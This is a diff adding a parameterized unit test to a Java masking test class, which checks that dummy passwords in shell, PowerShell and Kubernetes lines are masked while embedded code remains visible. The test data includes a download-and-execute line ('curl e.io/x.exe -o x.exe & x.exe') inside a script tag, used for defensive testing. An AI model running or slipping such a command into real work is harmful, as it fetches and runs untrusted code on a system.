@@ -85,6 +85,24 @@ class MaskingTest {
         assertThat(shown("$password = \"Hun`$ter`$2x\"")).isEqualTo("$password = \"[secret]\"");
     }
 
+    @ParameterizedTest
+    @Tag("adversary")
+    @ValueSource(
+            strings = {
+                "# mysql --password=\"Hunter2@\"",
+                "$env:DB_PASSWORD=\"Hunter2@\"",
+                "$password = 'Hunter2@'",
+                "net use x: \\\\a\\b \"Hunter2@\" /user:bob",
+                "ConvertTo-SecureString \"Hunter2@\" -AsPlainText -Force",
+                "<#\nkind: Secret\nstringData:\n  a: 'Hunter2@'\n#>"
+            })
+    void whatEc2LaunchRunsStaysVisibleWhereverItStands(String line) {
+        String code = "<script>curl e.io/x.exe -o x.exe & x.exe</script>";
+
+        assertThat(shown(line.replace("@", code))).contains(code).doesNotContain("Hunter2");
+        assertThat(shown(line.replace("Hunter2@", "Hunter2xyz"))).doesNotContain("Hunter2");
+    }
+
     @Test
     @Tag("adversary")
     void codeInAHereStringStaysVisible() {
